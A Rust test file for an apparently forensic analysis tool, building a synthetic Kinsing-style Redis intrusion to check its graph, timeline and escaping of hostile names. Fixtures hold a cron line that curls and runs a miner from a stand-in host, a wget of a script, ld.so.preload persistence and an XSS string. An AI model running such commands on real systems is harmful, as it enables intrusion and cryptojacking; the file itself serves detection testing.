//! The graph, entry point, kill chain and exports on a hand-built bundle of a Kinsing-style intrusion via
//! Redis: a crontab Redis wrote (RDB header) that downloads the miner, the miner deleted from a hidden
//! temp dir and connected to a pool named on its command line, a unit in whose cgroup a second binary
//! runs, an `ld.so.preload` library, an attacker key on `git` after a brute force, and a process named
//! `<script>alert(1)</script>` with a newline, quotes, backslashes and invalid UTF-8 in its command line.
//!
//! The bundle is written with the real bundle writer and read back through the real reader and model.
//! Findings are fixed here (not the detectors'), so the snapshots of `graph.dot`, `graph.json` and
//! `timeline.jsonl` change only when the graph or the exports do; one test also runs the real
//! detectors and checks the outputs still validate.

mod report_support;

use std::path::Path;

use minetrace_analyzer::analysis::Analysis;
use minetrace_analyzer::commands::analyze::{inputs, write_outputs};
use minetrace_analyzer::graph::Trace;
use minetrace_schemas::bundle::member_name::fs_member;
use minetrace_schemas::bundle::{members, writer::BundleWriter};
use minetrace_schemas::findings::{Finding, FindingSubject, Severity, Subject};
use minetrace_schemas::manifest::{CollectorInfo, Manifest, BUNDLE_FORMAT, BUNDLE_FORMAT_VERSION};
use minetrace_schemas::records::executable::{CopyStatus, ExecutableRecord};
use minetrace_schemas::records::file::{FileKind, FileRecord, FileTime};
use minetrace_schemas::records::host::{CollectionMode, HostIdentity, HostRecord};
use minetrace_schemas::records::process::{
    ExeLink, FileId, IdSet, Mapping, MappingKind, ProcessRecord,
};
use minetrace_schemas::records::socket::{SocketProto, SocketRecord};
use minetrace_schemas::records::RecordSetV1;
use minetrace_schemas::RawBytes;
use report_support::*;
use serde_json::Value;

const BOOT: &str = "b00t0000-0000-4000-8000-000000000001";
const T0: i64 = 1_714_000_000;
const KEY: &str = "AAAAC3NzaC1lZDI1NTE5AAAAIHrDzPJmDhzQCtQ/ZPQ4gOz7X3S+ArkYxPIB3bbdNJ7Q";
/// The attacker's key (an ed25519 blob of 0x42 bytes) and its fingerprint as `ssh-keygen -l` prints it.
const BAD_KEY: &str = "AAAAC3NzaC1lZDI1NTE5AAAAIEJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJCQkJC";
const BAD_KEY_FP: &str = "SHA256:LgZpRzWEAbVvBimxTv69/UB88PD8jyOSDqfozr+iNX0";
const WALLET: &str = "4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge";
const HOSTILE_COMM: &[u8] = b"<script>alert(1)</script>";

fn ids(uid: u32) -> IdSet {
    IdSet {
        real: uid,
        effective: uid,
        saved: uid,
        fs: uid,
    }
}

fn file(
    path: &str,
    category: &str,
    ino: u64,
    uid: u32,
    mtime: i64,
    content: Option<&[u8]>,
) -> (FileRecord, Option<(String, Vec<u8>)>) {
    let member = content.map(|_| fs_member(path.as_bytes()));
    let sha = content.map(minetrace_schemas::bundle::hashing_io::sha256_hex);
    let rec = FileRecord {
        path: path.into(),
        category: category.into(),
        kind: FileKind::Regular,
        link_target: None,
        mode: 0o644,
        uid,
        gid: uid,
        size: content.map_or(0, |c| c.len() as u64),
        dev: 2049,
        ino,
        nlink: 1,
        mtime: FileTime {
            secs: mtime,
            nanos: 0,
        },
        atime: FileTime {
            secs: mtime,
            nanos: 0,
        },
        ctime: FileTime {
            secs: mtime + 5,
            nanos: 0,
        },
        btime: Some(FileTime {
            secs: mtime,
            nanos: 0,
        }),
        flags: None,
        immutable: path.ends_with("ld.so.preload"),
        append_only: false,
        sha256: sha,
        member: member.clone(),
        truncated: false,
        error: None,
    };
    (rec, member.zip(content.map(<[u8]>::to_vec)))
}

fn process(
    pid: i32,
    ppid: i32,
    uid: u32,
    comm: &[u8],
    argv: &[&[u8]],
    (exe, ino): (&str, u64),
    start: u64,
) -> ProcessRecord {
    let mut cmdline = Vec::new();
    for a in argv {
        cmdline.extend_from_slice(a);
        cmdline.push(0);
    }
    ProcessRecord {
        pid,
        ppid,
        start_ticks: start,
        uid: ids(uid),
        gid: ids(uid),
        comm: RawBytes::new(comm.to_vec()),
        cmdline: RawBytes::new(cmdline),
        exe: Some(ExeLink {
            path: exe.into(),
            deleted: false,
            nlink: Some(1),
            memfd: false,
            file: Some(FileId { dev: 2049, ino }),
        }),
        state: "S".into(),
        threads: 1,
        ..Default::default()
    }
}

fn exe(path: &str, ino: u64, pids: &[i32], sha: &str) -> ExecutableRecord {
    ExecutableRecord {
        file: FileId { dev: 2049, ino },
        path: path.into(),
        size: 1000,
        sha256: Some(sha.into()),
        deleted: false,
        memfd: false,
        pids: pids.to_vec(),
        copy: CopyStatus::NotNeeded,
        copy_reasons: Vec::new(),
        error: None,
    }
}

/// Writes the scenario's bundle into `dir` and returns its path.
pub fn write_bundle(dir: &Path) -> std::path::PathBuf {
    let cron = b"REDIS0009\xfa\tredis-ver\x057.0.15\xfa\nredis-bits\xc0@\n\n*/1 * * * * curl -fsSL http://127.66.0.2/kinsing -o /tmp/.ICEd-unix/kdevtmpfsi; /tmp/.ICEd-unix/kdevtmpfsi\n\n\xff\xfe";
    let auth = {
        let mut s = String::new();
        for k in 0..6 {
            s.push_str(&format!("Apr 30 10:00:0{k} web-1 sshd[41{k}]: Failed password for git from 203.0.113.9 port 5000{k} ssh2\n"));
        }
        s.push_str("Apr 30 10:01:00 web-1 sshd[420]: Accepted password for git from 203.0.113.9 port 50100 ssh2\n");
        s.push_str("Apr 30 10:02:00 web-1 passwd[421]: pam_unix(passwd:chauthtok): password changed for git\n");
        s
    };
    let keys = format!("ssh-ed25519 {KEY} admin@laptop\nssh-ed25519 {BAD_KEY} mdrfckr\n");
    let files = vec![
        file("/etc/passwd", "accounts", 10, 0, T0 - 86_400, Some(b"root:x:0:0:root:/root:/bin/bash\nredis:x:110:117::/var/lib/redis:/usr/sbin/nologin\ngit:x:1001:1001::/home/git:/bin/bash\n")),
        file("/var/spool/cron/crontabs/redis", "cron", 11, 110, T0 + 3_600, Some(cron)),
        file("/etc/ld.so.preload", "loader", 12, 0, T0 + 3_700, Some(b"/etc/libsystem.so\n")),
        file("/etc/systemd/system/bot.service", "systemd", 13, 0, T0 + 3_800, Some(b"[Unit]\nDescription=bot\n[Service]\nExecStart=/etc/data/kinsing\nRestart=always\n")),
        file("/home/git/.ssh/authorized_keys", "ssh", 14, 1001, T0 + 3_900, Some(keys.as_bytes())),
        file("/var/log/auth.log", "log", 15, 0, 1_714_521_000, Some(auth.as_bytes())),
        file("/etc/hosts", "network", 16, 0, T0 - 86_400, Some(b"127.0.0.1 localhost\n127.66.0.1 pool.evil.example\n")),
        file("/root/.bash_history", "history", 17, 0, T0 + 4_100, Some(b"wget http://127.66.0.2/x.sh -O /tmp/x.sh\n")),
        file("/etc/data/kinsing", "exe", 21, 0, T0 + 3_750, None),
        file("/etc/libsystem.so", "loader", 22, 0, T0 + 3_700, None),
    ];
    let mut miner = process(
        700,
        1,
        110,
        b"kdevtmpfsi",
        &[
            b"/tmp/.ICEd-unix/kdevtmpfsi",
            b"-o",
            b"pool.evil.example:3333",
            b"-u",
            WALLET.as_bytes(),
            b"--donate-level=0",
        ],
        ("/tmp/.ICEd-unix/kdevtmpfsi", 20),
        50_000,
    );
    if let Some(e) = miner.exe.as_mut() {
        e.deleted = true;
        e.nlink = Some(0);
    }
    miner.maps.push(Mapping {
        start: 0x7f00_0000_0000,
        end: 0x7f00_0000_1000,
        perms: "r-xp".into(),
        offset: 0,
        file: Some(FileId { dev: 2049, ino: 22 }),
        path: Some("/etc/libsystem.so".into()),
        kind: MappingKind::File,
    });
    let mut bot = process(
        800,
        1,
        0,
        b"kinsing",
        &[b"/etc/data/kinsing"],
        ("/etc/data/kinsing", 21),
        40_000,
    );
    bot.cgroups.push("0::/system.slice/bot.service".into());
    let processes = vec![
        process(
            1,
            0,
            0,
            b"systemd",
            &[b"/sbin/init"],
            ("/usr/lib/systemd/systemd", 30),
            1,
        ),
        process(
            500,
            1,
            110,
            b"redis-server",
            &[b"/usr/bin/redis-server *:6379"],
            ("/usr/bin/redis-server", 31),
            2_000,
        ),
        process(
            600,
            500,
            110,
            b"sh",
            &[
                b"sh",
                b"-c",
                b"curl -fsSL http://127.66.0.2/kinsing -o /tmp/.ICEd-unix/kdevtmpfsi",
            ],
            ("/usr/bin/dash", 32),
            30_000,
        ),
        miner,
        bot,
        process(
            900,
            1,
            0,
            HOSTILE_COMM,
            &[
                b"<script>alert(1)</script>\n\"q\" \\b\xff",
                b"--x=</svg>&amp;",
            ],
            ("/tmp/ev\"il\n<b>x", 33),
            60_000,
        ),
    ];
    let executables = vec![
        exe("/tmp/.ICEd-unix/kdevtmpfsi", 20, &[700], &"a1".repeat(32)),
        exe("/etc/data/kinsing", 21, &[800], &"b2".repeat(32)),
        exe("/usr/bin/redis-server", 31, &[500], &"c3".repeat(32)),
        exe("/tmp/ev\"il\n<b>x", 33, &[900], &"d4".repeat(32)),
    ];
    let sockets = vec![
        SocketRecord {
            netns: 1,
            proto: SocketProto::Tcp,
            local: "0.0.0.0:6379".into(),
            remote: "0.0.0.0:0".into(),
            state: "LISTEN".into(),
            uid: 110,
            inode: 100,
            unix_path: None,
            pids: vec![500],
        },
        SocketRecord {
            netns: 1,
            proto: SocketProto::Tcp,
            local: "10.0.0.5:40000".into(),
            remote: "127.66.0.1:3333".into(),
            state: "ESTABLISHED".into(),
            uid: 110,
            inode: 101,
            unix_path: None,
            pids: vec![700],
        },
    ];
    let host = HostRecord {
        identity: HostIdentity {
            hostname: "web-1".into(),
            machine_id: "m".into(),
            boot_id: BOOT.into(),
            kernel: "6.1.0".into(),
        },
        mode: CollectionMode::Live,
        boot_time_unix: T0,
        clock_ticks_per_sec: 100,
        ..Default::default()
    };
    let mut w = BundleWriter::new(Vec::new(), 0, 0).expect("writer");
    w.add_records(members::HOST, &RecordSetV1::Host(host.clone()))
        .expect("host");
    w.add_records(members::PROCESSES, &RecordSetV1::Processes(processes))
        .expect("processes");
    w.add_records(members::EXECUTABLES, &RecordSetV1::Executables(executables))
        .expect("executables");
    w.add_records(members::SOCKETS, &RecordSetV1::Sockets(sockets))
        .expect("sockets");
    let mut recs = Vec::new();
    for (rec, content) in files {
        if let Some((name, bytes)) = content {
            w.add(&name, &bytes).expect("member");
        }
        recs.push(rec);
    }
    w.add_records(members::FILES, &RecordSetV1::Files(recs))
        .expect("files");
    let manifest = Manifest {
        format: BUNDLE_FORMAT.into(),
        format_version: BUNDLE_FORMAT_VERSION,
        collector: CollectorInfo {
            name: "minetrace-collect".into(),
            version: "0.1.0".into(),
            sha256: None,
            argv: vec![],
        },
        mode: CollectionMode::Live,
        root: None,
        host: host.identity.clone(),
        started_at: "2024-05-01T00:00:00Z".into(),
        ended_at: "2024-05-01T00:00:05Z".into(),
        started_unix_ms: 1_714_521_600_000,
        ended_unix_ms: 1_714_521_605_000,
        members: Vec::new(),
        artifacts: Vec::new(),
        exclusions: Vec::new(),
    };
    let (bytes, _) = w.finish(manifest).expect("finish");
    let path = dir.join("kinsing-redis.tar.zst");
    std::fs::write(&path, bytes).expect("write bundle");
    path
}

fn psub(pid: i32, start: u64, exe: &str) -> Subject {
    Subject::Process {
        pid,
        start_ticks: start,
        exe: Some(exe.into()),
    }
}

/// The findings the snapshots are taken with (what the detectors are expected to say, fixed here).
fn fixed_findings() -> Vec<Finding> {
    let f = |rule: &str,
             sev: Severity,
             title: &str,
             attack: &[&str],
             subjects: Vec<Subject>,
             family: Option<&str>| Finding {
        rule: rule.into(),
        severity: sev,
        title: title.into(),
        family: family.map(str::to_owned),
        attack: attack.iter().map(|a| (*a).to_owned()).collect(),
        subjects: subjects.into_iter().map(FindingSubject::new).collect(),
        evidence: vec![format!(
            "{title} (fixed test evidence with <markup> & \"quotes\")"
        )],
    };
    vec![
        f(
            "MT-TEST-MINER",
            Severity::Critical,
            "miner connected to a pool",
            &["T1496"],
            vec![
                psub(700, 50_000, "/tmp/.ICEd-unix/kdevtmpfsi"),
                Subject::Endpoint {
                    addr: "127.66.0.1:3333".into(),
                },
                Subject::File {
                    path: "/tmp/.ICEd-unix/kdevtmpfsi".into(),
                    sha256: Some("a1".repeat(32)),
                },
            ],
            Some("Kinsing"),
        ),
        f(
            "MT-TEST-CRON",
            Severity::High,
            "crontab downloads and runs code",
            &["T1053.003"],
            vec![Subject::Persistence {
                path: "/var/spool/cron/crontabs/redis".into(),
                line: 4,
            }],
            Some("Kinsing"),
        ),
        f(
            "MT-TEST-PRELOAD",
            Severity::High,
            "ld.so.preload library",
            &["T1574.006"],
            vec![
                Subject::Persistence {
                    path: "/etc/ld.so.preload".into(),
                    line: 1,
                },
                Subject::File {
                    path: "/etc/libsystem.so".into(),
                    sha256: None,
                },
            ],
            None,
        ),
        f(
            "MT-TEST-UNIT",
            Severity::High,
            "unit restarts a binary in /etc/data",
            &["T1543.002"],
            vec![
                Subject::Persistence {
                    path: "/etc/systemd/system/bot.service".into(),
                    line: 4,
                },
                psub(800, 40_000, "/etc/data/kinsing"),
            ],
            Some("Kinsing"),
        ),
        f(
            "MT-TEST-KEY",
            Severity::High,
            "known attacker key comment",
            &["T1098.004"],
            vec![
                Subject::SshKey {
                    fingerprint: BAD_KEY_FP.into(),
                    path: "/home/git/.ssh/authorized_keys".into(),
                    line: 2,
                },
                Subject::Account {
                    name: "git".into(),
                    uid: Some(1001),
                },
            ],
            Some("Outlaw"),
        ),
        f(
            "MT-TEST-HOSTILE",
            Severity::Medium,
            "hostile names",
            &["T1036"],
            vec![psub(900, 60_000, "/tmp/ev\"il\n<b>x")],
            None,
        ),
    ]
}

fn fixed_analysis(bundle: &Path) -> Analysis {
    let mut a =
        Analysis::run(bundle, &inputs(&[], None, false).expect("inputs")).expect("analysis");
    a.document.findings = fixed_findings();
    a.document.verdict = minetrace_schemas::findings::Verdict::Compromised;
    a
}

fn edge<'a>(doc: &'a Value, source: &str, relation: &str, target: &str) -> Option<&'a Value> {
    doc["elements"]["edges"].as_array()?.iter().find(|e| {
        e["data"]["source"] == source
            && e["data"]["relation"] == relation
            && e["data"]["target"] == target
    })
}

#[test]
fn graph_connects_entry_dropper_persistence_miner_and_pool() {
    let dir = tempfile::tempdir().expect("tempdir");
    let analysis = fixed_analysis(&write_bundle(dir.path()));
    let trace = Trace::of(&analysis);
    let doc = minetrace_analyzer::output::graph_json::document(&trace);
    let p = |pid: i32, start: u64| format!("proc:{BOOT}:{pid}:{start}");
    let cron = "persist:cron:/var/spool/cron/crontabs/redis:4";
    let need = |s: &str, r: &str, t: &str, level: &str| {
        let e = edge(&doc, s, r, t).unwrap_or_else(|| panic!("missing edge {s} -{r}-> {t}"));
        assert_eq!(e["data"]["level"], level, "{s} -{r}-> {t}");
    };
    // Observed facts.
    need(&p(600, 30_000), "child_of", &p(500, 2_000), "observed");
    need(&p(700, 50_000), "runs_image", "file:2049:20", "observed");
    need(&p(700, 50_000), "maps", "file:2049:22", "observed");
    need(
        &p(700, 50_000),
        "owns_socket",
        "ep:127.66.0.1:3333",
        "observed",
    );
    need(&p(500, 2_000), "listens_on", "ep:0.0.0.0:6379", "observed");
    need(&p(700, 50_000), "runs_as", "user:110", "observed");
    need("user:110", "owns", cron, "observed");
    need(
        &format!("sshkey:{BAD_KEY_FP}"),
        "authorizes",
        "user:1001",
        "observed",
    );
    need(
        "persist:systemd:/etc/systemd/system/bot.service:4",
        "launches",
        &p(800, 40_000),
        "observed",
    );
    // Parsed from attacker text.
    need(
        cron,
        "references",
        "url:http://127.66.0.2/kinsing",
        "parsed",
    );
    need(cron, "runs_as", "user:110", "parsed");
    need(
        "persist:preload:/etc/ld.so.preload:1",
        "references",
        "file:2049:22",
        "parsed",
    );
    need(
        "persist:systemd:/etc/systemd/system/bot.service:4",
        "references",
        "file:2049:21",
        "parsed",
    );
    need(
        &p(700, 50_000),
        "references",
        "domain:pool.evil.example",
        "parsed",
    );
    need(
        &p(700, 50_000),
        "references",
        &format!("wallet:{WALLET}"),
        "parsed",
    );
    need(
        "ep:127.66.0.1:3333",
        "resolved_from",
        "domain:pool.evil.example",
        "parsed",
    );
    need(
        "url:http://127.66.0.2/kinsing",
        "hosted_on",
        "ep:127.66.0.2:80",
        "parsed",
    );
    // Heuristics.
    need(
        "url:http://127.66.0.2/kinsing",
        "downloaded_to",
        "file:2049:20",
        "suspected",
    );
    need(cron, "launches", &p(700, 50_000), "suspected");
    // Findings.
    need(
        "finding:MT-TEST-MINER:0",
        "concerns",
        &p(700, 50_000),
        "observed",
    );

    // Entry point: the exposed Redis, observed (the kit's shell runs under redis-server) and told by
    // the crontab Redis wrote (RDB header) for its own account.
    let best = trace.entry.best().expect("an entry point");
    assert_eq!(
        (best.vector.name(), best.service.as_deref()),
        ("exposed_service", Some("redis")),
        "{:?}",
        trace.entry
    );
    assert!(best.summary.contains("redis"), "{}", best.summary);
    assert!(best.evidence.iter().any(|e| e.contains("MT-PER-002")));
    // The brute-forced login to git came days after the kit: a weaker candidate, not the way in.
    let brute = trace
        .entry
        .candidates
        .iter()
        .find(|c| c.vector.name() == "ssh_brute_force" && c.summary.contains("git"))
        .expect("the brute force is a candidate");
    assert!(brute.confidence < best.confidence);
    assert!(brute
        .evidence
        .iter()
        .any(|e| e.contains("outside the intrusion window")));
    // Kill chain: every stage but execution has judged items.
    let stage = |name: &str| {
        trace
            .chain
            .stages
            .iter()
            .find(|s| s.stage.name() == name)
            .expect("stage")
    };
    assert!(stage("entry").items.iter().any(|i| i.node == "user:110"));
    assert!(stage("persistence").items.iter().any(|i| i.node == cron));
    assert!(stage("defense_evasion")
        .items
        .iter()
        .any(|i| i.node == "persist:preload:/etc/ld.so.preload:1"));
    assert!(stage("c2_mining")
        .items
        .iter()
        .any(|i| i.node == p(700, 50_000)));
    // The view holds the whole story and stays small.
    let view: Vec<&str> = trace
        .view
        .nodes
        .iter()
        .map(|i| trace.graph.id_of(*i))
        .collect();
    for id in [
        p(700, 50_000).as_str(),
        cron,
        "ep:127.66.0.1:3333",
        "user:110",
        "url:http://127.66.0.2/kinsing",
    ] {
        assert!(view.contains(&id), "{id} not in view {view:?}");
    }
    assert!(view.len() <= 50);
    // Timeline: crontab change, auth lines and process starts in order.
    let ev = &trace.timeline;
    assert!(ev.windows(2).all(|w| w[0].time_us <= w[1].time_us));
    assert!(ev.iter().any(|e| e
        .message()
        .starts_with("crontab /var/spool/cron/crontabs/redis")
        && e.forgeable));
    assert!(ev
        .iter()
        .any(|e| e.message().contains("password changed") && e.desc.contains("inferred")));
}

#[test]
fn hostile_names_render_as_text_everywhere() {
    let dir = tempfile::tempdir().expect("tempdir");
    let analysis = fixed_analysis(&write_bundle(dir.path()));
    let out = dir.path().join("out");
    write_outputs(&analysis, &out).expect("outputs");
    keep(&out, "synthetic");
    let html = std::fs::read_to_string(out.join("report.html")).expect("html");
    assert_self_contained(&html);
    assert!(html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
    assert!(!html.to_ascii_lowercase().contains("<script"));
    assert!(!html.contains("<b>x") && !html.contains("</svg>&amp;") && !html.contains("ev\"il"));
    assert!(
        html.contains("&lt;markup&gt; &amp; &quot;quotes&quot;"),
        "finding evidence not escaped"
    );
    let dot = std::fs::read_to_string(out.join("graph.dot")).expect("dot");
    assert!(
        dot.contains("<script>alert(1)</script>"),
        "the hostile label should be in the DOT as a quoted string"
    );
    assert!(!dot.contains("ev\"il") && !dot.contains('\r'));
    for line in dot.lines() {
        // Each statement stays on its own line: a newline in a name cannot start a new one.
        assert!(
            line.is_empty()
                || line.starts_with("  ")
                || line.starts_with("//")
                || line.starts_with("digraph")
                || line == "}",
            "stray DOT line: {line}"
        );
    }
    let svg = dot_svg(&out.join("graph.dot"));
    assert!(svg.contains("&lt;script&gt;alert(1)&lt;/script&gt;") && !svg.contains("<script"));
    let doc = cytoscape(&out.join("graph.json"));
    let hostile = nodes(&doc)
        .into_iter()
        .find(|n| n["data"]["id"] == format!("proc:{BOOT}:900:60000").as_str())
        .expect("hostile node");
    assert_eq!(hostile["data"]["label"], "<script>alert(1)</script> [900]");
    assert_eq!(hostile["data"]["raw_hex"], hex_of(HOSTILE_COMM));
    assert!(hostile["data"]["attrs"]["cmdline"]
        .as_str()
        .is_some_and(|c| c.contains("\\x0a") && c.contains("\\xff") && !c.contains('\n')));
    let events = timeline(&out.join("timeline.jsonl"));
    assert!(events.iter().any(|e| e["message"]
        .as_str()
        .is_some_and(|m| m.contains("<script>alert(1)</script>\\x0a"))));
    validate_stix(&out.join("iocs.stix.json"));
}

fn hex_of(b: &[u8]) -> String {
    b.iter().map(|x| format!("{x:02x}")).collect()
}

#[test]
fn exports_snapshot() {
    let dir = tempfile::tempdir().expect("tempdir");
    let analysis = fixed_analysis(&write_bundle(dir.path()));
    let trace = Trace::of(&analysis);
    let mut dot = Vec::new();
    minetrace_analyzer::output::graph_dot::write(&trace, &mut dot).expect("dot");
    insta::assert_snapshot!("kinsing_redis_graph_dot", String::from_utf8_lossy(&dot));
    let mut json = Vec::new();
    minetrace_analyzer::output::graph_json::write(&trace, &mut json).expect("json");
    insta::assert_snapshot!("kinsing_redis_graph_json", String::from_utf8_lossy(&json));
    let mut tl = Vec::new();
    minetrace_analyzer::output::timeline_jsonl::write(&trace, &mut tl).expect("timeline");
    insta::assert_snapshot!("kinsing_redis_timeline_jsonl", String::from_utf8_lossy(&tl));
    let mut stix = Vec::new();
    minetrace_analyzer::output::stix::write(&analysis, &trace, &mut stix).expect("stix");
    insta::assert_snapshot!(
        "kinsing_redis_iocs_stix_json",
        String::from_utf8_lossy(&stix)
    );
}

#[test]
fn real_detectors_outputs_still_validate() {
    let dir = tempfile::tempdir().expect("tempdir");
    let bundle = write_bundle(dir.path());
    let analysis =
        Analysis::run(&bundle, &inputs(&[], None, false).expect("inputs")).expect("analysis");
    let out = dir.path().join("out");
    write_outputs(&analysis, &out).expect("outputs");
    cytoscape(&out.join("graph.json"));
    timeline(&out.join("timeline.jsonl"));
    dot_svg(&out.join("graph.dot"));
    validate_stix(&out.join("iocs.stix.json"));
    assert_self_contained(&std::fs::read_to_string(out.join("report.html")).expect("html"));
}
